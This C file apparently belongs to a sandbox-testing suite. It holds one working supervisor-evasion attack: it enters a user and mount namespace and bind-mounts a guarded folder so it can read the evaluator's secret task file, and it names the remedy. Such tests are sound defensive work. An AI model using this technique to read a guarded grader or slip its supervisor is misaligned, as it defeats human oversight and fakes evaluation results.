// SPDX-License-Identifier: MIT
/*
 * Goal:  the evaluator's source, past a supervisor that resolves every link and every "..".
 * Means: a mount namespace of our own, by way of a user namespace, and the guarded folder mounted
 *        on one of ours. There is no link: /tmp/NAME.d is the folder, and realpath(3) says so, too.
 *        The supervisor, in its own namespace, sees an empty folder.
 */
#include "attacks/supervisor-evasion/evaluator.h"

#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>

static enum claim run(const struct brief *b)
{
	char here[OWN_FOLDER], path[OWN_FOLDER + sizeof(FILE_NAME)];

	if (!own_folder(b, here))
		return failed("mkdir");
	snprintf(path, sizeof(path), "%s/" FILE_NAME, here);
	attempting(b);
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		return denied("unshare");
	if (mount(FOLDER, here, NULL, MS_BIND | MS_REC, NULL))
		return denied("mount");
	return loot_evaluator(open(path, O_RDONLY | O_CLOEXEC)) ? CLAIM_DONE : denied("open");
}

const struct attack attack = {
	.effect = "a file that the supervisor guards is read",
	.means = "the guarded folder bind-mounted on an allowed one, in a user namespace",
	.oracle = "secret:task",
	.needs = NEED_USERNS,
	.attack_id = "T1562.001, T1611, CWE-706",
	.remedy = "a filter without unshare(2), clone(2)'s namespaces and mount(2)",
	.refs = (const char *const[]){ "user_namespaces(7)", "mount_namespaces(7)", NULL },
	.run = run,
};
